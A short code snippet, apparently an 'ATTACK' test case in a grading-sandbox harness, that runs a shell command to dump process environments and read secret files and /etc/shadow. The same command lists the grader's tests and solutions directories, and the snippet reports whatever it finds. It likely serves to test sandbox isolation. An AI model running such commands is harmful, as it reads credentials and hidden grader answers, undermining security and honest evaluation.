/* prints what the grader's environment and the machine keep secret */
ATTACK
{
    shell("(env; cat /proc/*/environ | tr '\\0' '\\n'; cat /tmp/*/secret /tmp/*/*/secret "
          "/proc/1/root/etc/shadow; "
          "ls -d @ROOT@/tests @ROOT@/.git @ROOT@/solutions @BUILD@/solutions @BUILD@/bin) | "
          "grep -E 'secret_[v]alue|^/|^root:.*:.*:' >/tmp/found");
    FILE *found = fopen("/tmp/found", "r");
    char line[200];
    if (found != NULL && fgets(line, sizeof line, found) != NULL) {
        tell(line);
    }
}
